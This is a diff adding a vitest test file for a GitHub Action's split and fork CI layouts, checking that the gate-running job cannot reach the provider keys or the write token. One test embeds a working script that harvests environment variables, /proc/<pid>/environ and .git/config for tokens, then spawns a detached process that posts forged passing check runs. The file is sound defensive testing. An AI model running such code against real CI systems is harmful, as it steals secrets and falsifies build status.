@@ -1,0 +1,306 @@
+import { execFileSync } from 'node:child_process'
+import { existsSync, mkdtempSync, readFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { setTimeout as sleep } from 'node:timers/promises'
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
+import { writeRecord } from '../src/gates/record.js'
+import { rubricHash } from '../src/rubric/hash.js'
+import {
+  openPullRequest,
+  OWNER,
+  pullRequestEvent,
+  pullRequestJson,
+  REPO,
+  runAction,
+  webhookExample,
+  writeEvent,
+  type ActionRun,
+  type Repository
+} from './helpers/action-run.js'
+import { gateResult } from './helpers/evaluation.js'
+import { startGitHubStandIn, type GitHubStandIn } from './helpers/github-standin.js'
+import { wireAnswer } from './helpers/judge-answers.js'
+import { startProviderStandIn, type StandIn } from './helpers/provider-standin.js'
+import { GATES_TOKEN, gatesJob, uploadRecord } from './helpers/split-layout.js'
+
+/**
+ * The split layout (docs/security.md, "Where the gates run"), end to end: the gates job runs the
+ * gates sub-action's bundle with only a read-only token, the council job runs the action's bundle
+ * with the provider keys and reads the recorded results; and the fork layout, where the council
+ * runs on workflow_run. The judges fail any pull request whose diff shows `BROKEN`.
+ */
+
+const WRITE = 'ghs_council_job_write_0001'
+const BOT = { login: 'github-actions[bot]', type: 'Bot' as const }
+const KEYS = { OPENAI_API_KEY: 'sk-split-layout-0123456789' }
+const MODELS = 'openai:gpt-5-mini, openai:gpt-4.1'
+
+const RUBRIC = [
+  '---',
+  'dimensions: false',
+  '---',
+  '## Gates',
+  '- `bash scripts/check.sh`',
+  '## Criteria',
+  '- tested: The change is tested',
+  ''
+].join('\n')
+
+const BASE = {
+  '.github/rubric.md': RUBRIC,
+  'scripts/check.sh': 'echo checked\n',
+  'src/app.ts': 'export const app = 1\n'
+}
+
+let github: GitHubStandIn
+let providers: StandIn
+let nextPr = 1
+let nextRun = 9000
+beforeAll(async () => {
+  github = await startGitHubStandIn({ owner: OWNER, repo: REPO })
+  github.addToken(WRITE, { ...BOT, write: true })
+  // The gates job's GITHUB_TOKEN: `permissions: { contents: read }`.
+  github.addToken(GATES_TOKEN, { ...BOT, write: false, actions: 'none' })
+  providers = await startProviderStandIn(call => ({
+    json: wireAnswer(call.schema, call.text.includes('BROKEN') ? { fail: ['tested'] } : {})
+  }))
+})
+afterEach(() => {
+  expect(github.violations).toEqual([])
+})
+afterAll(async () => {
+  await Promise.all([github.close(), providers.close()])
+})
+
+interface PullRequest {
+  readonly repo: Repository
+  readonly number: number
+}
+
+function pullRequest(
+  head: Record<string, string | null>,
+  base: Record<string, string> = BASE
+): PullRequest {
+  const number = nextPr++
+  return { repo: openPullRequest(github, number, base, head), number }
+}
+
+const outcome = (result: ActionRun): string =>
+  `${result.outputs.verdict ?? ''} ${result.outputs.reasons ?? ''}`.trim()
+
+/** Single-job mode: the action runs the gates itself, in the job that holds the keys. */
+function singleJob(pr: PullRequest): Promise<ActionRun> {
+  return runAction({
+    workspace: pr.repo.dir,
+    eventName: 'pull_request',
+    eventPath: pullRequestEvent(pr.repo, { number: pr.number }),
+    apiUrl: github.url,
+    inputs: { 'github-token': WRITE, models: MODELS },
+    env: { ...KEYS, OPENAI_BASE_URL: providers.openaiBaseUrl }
+  })
+}
+
+/** The council job of run `runId`: no gate runs here; their results are read back. */
+function councilJob(pr: PullRequest, runId: number): Promise<ActionRun> {
+  return runAction({
+    workspace: pr.repo.dir,
+    eventName: 'pull_request',
+    eventPath: pullRequestEvent(pr.repo, { number: pr.number }),
+    apiUrl: github.url,
+    inputs: { 'github-token': WRITE, models: MODELS, gates: 'recorded' },
+    env: { ...KEYS, OPENAI_BASE_URL: providers.openaiBaseUrl, GITHUB_RUN_ID: String(runId) }
+  })
+}
+
+/** Both jobs of the split layout, as one workflow run. */
+async function splitLayout(pr: PullRequest): Promise<{ gates: ActionRun; council: ActionRun }> {
+  const runId = nextRun++
+  const eventPath = pullRequestEvent(pr.repo, { number: pr.number })
+  const gates = await gatesJob(github, { workspace: pr.repo.dir, eventPath, runId })
+  return { gates, council: await councilJob(pr, runId) }
+}
+
+const checksOn = (pr: PullRequest) => github.checkRuns.filter(c => c.head_sha === pr.repo.headSha)
+
+describe('the split layout gives the verdicts single-job mode gives', () => {
+  it.each([
+    ['gates pass, the judges pass', {}, 'PASS'],
+    ['a gate fails', { 'scripts/check.sh': 'echo "2 tests failed"; exit 1\n' }, 'FAIL gate_failed'],
+    [
+      'the judges fail a must-have',
+      { 'src/app.ts': 'export const app = BROKEN\n' },
+      'FAIL criterion_failed'
+    ],
+    ['the gate script is gone', { 'scripts/check.sh': null }, 'FAIL gate_failed']
+  ])('%s', async (_, change, expected) => {
+    const head = { 'src/feature.ts': 'export const feature = 1\n', ...change }
+    const single = await singleJob(pullRequest(head))
+    const pr = pullRequest(head)
+    const before = checksOn(pr).length
+    const { gates, council } = await splitLayout(pr)
+    expect(outcome(single)).toBe(expected)
+    expect(outcome(council)).toBe(expected)
+    // The gates job gives no verdict; its step fails exactly when a gate did not pass.
+    expect(gates.outputs.verdict).toBeUndefined()
+    expect(gates.code).toBe(expected.includes('gate_failed') ? 1 : 0)
+    expect(council.summary).toContain('The results were recorded by the job "gates" of run')
+    expect(
+      checksOn(pr)
+        .slice(before)
+        .map(c => c.conclusion)
+    ).toEqual([expected === 'PASS' ? 'success' : 'failure'])
+  })
+})
+
+describe('in the split layout, the pull request’s code', () => {
+  it('finds no key and no write token, and cannot change the check run', async () => {
+    // The gate looks everywhere a secret could be: its environment, every ancestor's
+    // /proc/<pid>/environ, the checkout's .git/config; and leaves a detached process behind that
+    // posts a green check run with any token it found, after the job is done.
+    const steal = String.raw`
+const { readFileSync, writeFileSync } = require('node:fs')
+const { spawn } = require('node:child_process')
+const found = [JSON.stringify(process.env)]
+let pid = process.ppid
+while (pid > 1) {
+  try { found.push(readFileSync('/proc/' + pid + '/environ', 'utf8')) } catch {}
+  const status = readFileSync('/proc/' + pid + '/status', 'utf8')
+  pid = Number(/^PPid:\s+(\d+)/m.exec(status)[1])
+}
+try { found.push(readFileSync('.git/config', 'utf8')) } catch {}
+writeFileSync('stolen.txt', found.join('\n'))
+const tokens = [...new Set(found.join('\n').match(/ghs_[A-Za-z0-9_]+/g) || [])]
+const later = 'setTimeout(async () => { for (const t of ' + JSON.stringify(tokens) + ') {' +
+  ' const r = await fetch(process.argv[1] + "/repos/${OWNER}/${REPO}/check-runs", { method: "POST",' +
+  ' headers: { authorization: "token " + t, "content-type": "application/json" },' +
+  ' body: JSON.stringify({ name: "rubric-council", head_sha: process.argv[2], status: "completed", conclusion: "success" }) });' +
+  ' require("node:fs").appendFileSync("posted.txt", t + " " + r.status + "\\n") } }, 1500)'
+spawn(process.execPath, ['-e', later, process.env.GITHUB_API_URL, process.env.HEAD], { detached: true, stdio: 'ignore' }).unref()
+`
+    const pr = pullRequest({
+      'scripts/steal.js': steal,
+      'scripts/check.sh': 'HEAD=$(git rev-parse HEAD) node scripts/steal.js\n',
+      'src/app.ts': 'export const app = BROKEN\n'
+    })
+    const { council } = await splitLayout(pr)
+    expect(outcome(council)).toBe('FAIL criterion_failed')
+    await sleep(2500)
+    const stolen = readFileSync(join(pr.repo.dir, 'stolen.txt'), 'utf8')
+    expect(stolen).toContain('PATH')
+    for (const secret of [KEYS.OPENAI_API_KEY, WRITE]) expect(stolen).not.toContain(secret)
+    // It found the gates job's own token, which can read but not write.
+    const posted = readFileSync(join(pr.repo.dir, 'posted.txt'), 'utf8').trim().split('\n')
+    expect(posted).toEqual([`${GATES_TOKEN} 403`])
+    expect(checksOn(pr).map(c => c.conclusion)).toEqual(['failure'])
+  })
+
+  it('cannot pass with a forged record while its gates job failed', async () => {
+    const pr = pullRequest({ 'scripts/check.sh': 'echo "1 test failed"; exit 1\n' })
+    const runId = nextRun++
+    const eventPath = pullRequestEvent(pr.repo, { number: pr.number })
+    await gatesJob(github, { workspace: pr.repo.dir, eventPath, runId })
+    // Something the gates ran rewrote the record before the upload: every gate "passed".
+    uploadRecord(
+      github,
+      runId,
+      writeRecord({
+        repository: `${OWNER}/${REPO}`,
+        pullRequest: pr.number,
+        headSha: pr.repo.headSha,
+        rubricHash: rubricHash(RUBRIC),
+        gates: [gateResult('bash scripts/check.sh', 'pass', 'all good')]
+      })
+    )
+    const council = await councilJob(pr, runId)
+    expect(outcome(council)).toBe('FAIL gate_failed')
+    expect(council.summary).toContain('yet its record says every gate passed')
+  })
+
+  it('a missing record is an error, never a pass', async () => {
+    const pr = pullRequest({})
+    const runId = nextRun++
+    github.setRunJobs(runId, [{ name: 'gates', conclusion: 'failure' }])
+    const council = await councilJob(pr, runId)
+    expect(outcome(council)).toBe('FAIL gate_failed')
+    expect(council.summary).toContain('recorded no gate results')
+  })
+})
+
+describe('the fork layout', () => {
+  it('gives a verdict, a comment and a check run on the head of a fork’s pull request, no secret in the gates workflow', async () => {
+    const pr = pullRequest({ 'src/feature.ts': 'export const feature = 1\n' })
+    // GitHub keeps a fork's head at refs/pull/N/head of the base repository, and lets a commit
+    // reachable from a ref be fetched by its name.
+    pr.repo.git('update-ref', `refs/pull/${pr.number}/head`, pr.repo.headSha)
+    pr.repo.git('config', 'uploadpack.allowReachableSHA1InWant', 'true')
+    const fork = 'contributor/octo-repo'
+    github.setPullRequest(pr.number, {
+      ...pullRequestJson(pr.repo, pr.number),
+      head: {
+        ...(pullRequestJson(pr.repo, pr.number).head as object),
+        sha: pr.repo.headSha,
+        repo: { full_name: fork }
+      }
+    })
+
+    // The gates workflow, on pull_request from the fork: a read-only token, no secrets.
+    const runId = nextRun++
+    const gatesEnv = { RC_MARKER: 'gates-job' }
+    const gates = await gatesJob(github, {
+      workspace: pr.repo.dir,
+      eventPath: pullRequestEvent(pr.repo, { number: pr.number }),
+      runId,
+      env: gatesEnv
+    })
+    expect(gates.code).toBe(0)
+    github.setWorkflowRun({
+      id: runId,
+      head_sha: pr.repo.headSha,
+      name: 'Rubric Council gates',
+      head_repository: fork,
+      pull_requests: []
+    })
+
+    // The council workflow, on workflow_run: the base branch checked out, the keys present.
+    const base = mkdtempSync(join(tmpdir(), 'rc-fork-council-'))
+    execFileSync('git', [
+      'clone',
+      '-q',
+      '--depth=1',
+      '--branch',
+      'main',
+      `file://${pr.repo.dir}`,
+      base
+    ])
+    const example = webhookExample('workflow_run', 'completed')
+    const eventPath = writeEvent({
+      ...example,
+      action: 'completed',
+      workflow_run: {
+        ...(example.workflow_run as object),
+        id: runId,
+        run_attempt: 1,
+        head_sha: pr.repo.headSha,
+        conclusion: 'success',
+        event: 'pull_request',
+        pull_requests: []
+      },
+      repository: { ...(example.repository as object), name: REPO, full_name: `${OWNER}/${REPO}` }
+    })
+    const council = await runAction({
+      workspace: base,
+      eventName: 'workflow_run',
+      eventPath,
+      apiUrl: github.url,
+      inputs: { 'github-token': WRITE, models: MODELS, gates: 'recorded' },
+      env: { ...KEYS, OPENAI_BASE_URL: providers.openaiBaseUrl, GITHUB_RUN_ID: '9999' }
+    })
+    expect(outcome(council)).toBe('PASS')
+    expect(github.comments.get(pr.number)?.[0]?.body).toContain('Rubric Council: PASS')
+    expect(checksOn(pr).map(c => [c.name, c.conclusion])).toEqual([['rubric-council', 'success']])
+    // The judges saw the fork's change, fetched by commit without running anything.
+    expect(providers.calls.at(-1)?.text).toContain('+export const feature = 1')
+    expect(existsSync(join(base, 'src/feature.ts'))).toBe(false)
+  })
+})
